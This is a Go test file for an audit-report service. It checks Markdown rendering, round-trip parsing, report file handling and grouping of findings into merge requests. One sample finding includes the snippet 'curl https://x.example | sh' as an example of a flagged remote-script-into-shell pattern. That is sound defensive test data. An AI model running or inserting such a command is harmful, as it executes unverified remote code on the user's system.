package audit_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/Scarmonit/aistack/pkg/domain/model"
	"github.com/Scarmonit/aistack/pkg/domain/types"
	"github.com/Scarmonit/aistack/pkg/service/audit"
	"github.com/m-mizutani/gt"
)

func sampleReport(t *testing.T) *model.AuditReport {
	t.Helper()
	report, err := model.NewAuditReport("/src/project", allKinds())
	gt.NoError(t, err)
	report.ScannedFiles = 12
	report.SkippedFiles = 1
	report.Duration = 1200 * time.Millisecond
	report.Findings = []*model.Finding{
		model.NewFinding("SEC001", types.AuditKindSecurity, types.SeverityHigh,
			"scripts/deploy.sh", 42, "Hardcoded password",
			"Move the credential into an environment variable or secret store",
			"PASSWORD=<redacted>"),
		model.NewFinding("SEC005", types.AuditKindSecurity, types.SeverityHigh,
			"install.sh", 7, "Remote script piped into a shell",
			"Download to a file, verify its checksum, then execute",
			"curl https://x.example | sh"),
		model.NewFinding("QUA004", types.AuditKindQuality, types.SeverityMedium,
			"lib/util.py", 88, "Bare except clause",
			"Catch the specific exception types expected",
			"except:"),
	}
	report.Sort()
	return report
}

func TestRenderMarkdownLayout(t *testing.T) {
	md := audit.RenderMarkdown(sampleReport(t))

	gt.S(t, md).Contains("# Audit Report")
	gt.S(t, md).Contains("## Summary")
	gt.S(t, md).Contains("## Security Findings")
	gt.S(t, md).Contains("## Quality Findings")
	gt.S(t, md).Contains("| SEC001 | high | scripts/deploy.sh:42 | Hardcoded password |")
	gt.S(t, md).Contains("| QUA004 | medium | lib/util.py:88 | Bare except clause |")
	gt.S(t, md).Contains("- Files scanned: 12 (1 skipped)")
}

func TestRenderMarkdownEmptyKind(t *testing.T) {
	report, err := model.NewAuditReport("/src", allKinds())
	gt.NoError(t, err)

	md := audit.RenderMarkdown(report)
	gt.S(t, md).Contains("No findings.")
}

func TestRenderParseRoundTrip(t *testing.T) {
	report := sampleReport(t)
	md := audit.RenderMarkdown(report)

	bugs, err := audit.ParseMarkdown(strings.NewReader(md))
	gt.NoError(t, err)
	gt.Equal(t, len(bugs), 3)

	// parse preserves report order: install.sh < lib/util.py < scripts/deploy.sh
	gt.Equal(t, bugs[0].File, "install.sh")
	gt.Equal(t, bugs[0].Line, 7)
	gt.Equal(t, bugs[0].Kind, types.AuditKindSecurity)
	gt.Equal(t, bugs[0].Severity, types.SeverityHigh)

	gt.Equal(t, bugs[1].File, "lib/util.py")
	gt.Equal(t, bugs[1].Kind, types.AuditKindQuality)

	gt.Equal(t, bugs[2].File, "scripts/deploy.sh")
	gt.Equal(t, bugs[2].Title, "Hardcoded password")
	gt.S(t, bugs[2].Body).Contains("**Rule:** SEC001")
	gt.S(t, bugs[2].Body).Contains("`scripts/deploy.sh:42`")
}

func TestWriteAndLoadFiles(t *testing.T) {
	dir := t.TempDir()
	report := sampleReport(t)

	mdPath, jsonPath, err := audit.WriteFiles(report, dir)
	gt.NoError(t, err)
	gt.S(t, filepath.Base(mdPath)).Contains("audit-")
	gt.S(t, filepath.Base(jsonPath)).Contains("audit-")

	loaded, err := audit.LoadJSON(jsonPath)
	gt.NoError(t, err)
	gt.Equal(t, loaded.RunID, report.RunID)
	gt.Equal(t, len(loaded.Findings), 3)
	gt.Equal(t, loaded.Findings[0].Fingerprint, report.Findings[0].Fingerprint)

	files, err := audit.ListReportFiles(dir)
	gt.NoError(t, err)
	gt.Equal(t, len(files), 2)

	latest, err := audit.LatestReport(dir, "json")
	gt.NoError(t, err)
	gt.Equal(t, latest, jsonPath)
}

func TestLatestReportPicksNewest(t *testing.T) {
	dir := t.TempDir()
	gt.NoError(t, os.WriteFile(filepath.Join(dir, "audit-20260101-000000.json"), []byte("{}"), 0644))
	gt.NoError(t, os.WriteFile(filepath.Join(dir, "audit-20260301-000000.json"), []byte("{}"), 0644))
	gt.NoError(t, os.WriteFile(filepath.Join(dir, "audit-20260201-000000.json"), []byte("{}"), 0644))

	latest, err := audit.LatestReport(dir, "json")
	gt.NoError(t, err)
	gt.S(t, latest).Contains("audit-20260301-000000.json")
}

func TestLatestReportEmptyDir(t *testing.T) {
	_, err := audit.LatestReport(t.TempDir(), "json")
	gt.Error(t, err)
}

func TestParseMarkdownMalformedRow(t *testing.T) {
	md := strings.Join([]string{
		"# Audit Report",
		"",
		"## Security Findings",
		"",
		"| Rule | Severity | Location | Title | Detail |",
		"|------|----------|----------|-------|--------|",
		"| SEC001 | high | missing-cells |",
		"",
	}, "\n")

	_, err := audit.ParseMarkdown(strings.NewReader(md))
	gt.Error(t, err)
	gt.S(t, err.Error()).Contains("malformed findings table row")
}

func TestParseMarkdownBadSeverity(t *testing.T) {
	md := strings.Join([]string{
		"## Security Findings",
		"",
		"| Rule | Severity | Location | Title | Detail |",
		"|------|----------|----------|-------|--------|",
		"| SEC001 | fatal | a.sh:1 | T | D |",
	}, "\n")

	_, err := audit.ParseMarkdown(strings.NewReader(md))
	gt.Error(t, err)
}

func TestParseMarkdownIgnoresOtherSections(t *testing.T) {
	md := strings.Join([]string{
		"# Audit Report",
		"",
		"## Summary",
		"",
		"| Severity | Count |",
		"|----------|-------|",
		"| high | 2 |",
		"",
		"## Quality Findings",
		"",
		"No findings.",
	}, "\n")

	bugs, err := audit.ParseMarkdown(strings.NewReader(md))
	gt.NoError(t, err)
	gt.Equal(t, len(bugs), 0)
}

func TestGroupMergeRequests(t *testing.T) {
	bugs := []*model.BugReport{
		{Kind: types.AuditKindSecurity, Severity: types.SeverityHigh, File: "scripts/deploy.sh", Line: 42, Title: "Hardcoded password", Body: "b"},
		{Kind: types.AuditKindSecurity, Severity: types.SeverityCritical, File: "scripts/deploy.sh", Line: 50, Title: "Private key material", Body: "b"},
		{Kind: types.AuditKindQuality, Severity: types.SeverityLow, File: "lib/util.py", Line: 3, Title: "print() debugging", Body: "b"},
	}

	requests := audit.GroupMergeRequests(bugs, "main")
	gt.Equal(t, len(requests), 2)

	// groups come back sorted by file
	gt.Equal(t, requests[0].File, "lib/util.py")
	gt.Equal(t, requests[0].Branch, "fix/lib-util-py")
	gt.Equal(t, requests[0].Base, "main")
	gt.S(t, requests[0].Title).Contains("1 audit finding in lib/util.py")

	gt.Equal(t, requests[1].File, "scripts/deploy.sh")
	gt.Equal(t, len(requests[1].Reports), 2)
	gt.S(t, requests[1].Title).Contains("2 audit findings")
	gt.S(t, requests[1].Body).Contains("[critical] Private key material")
	gt.Equal(t, requests[1].Labels, []string{"automated-audit", "critical"})

	gt.NoError(t, requests[0].Validate())
	gt.NoError(t, requests[1].Validate())
}
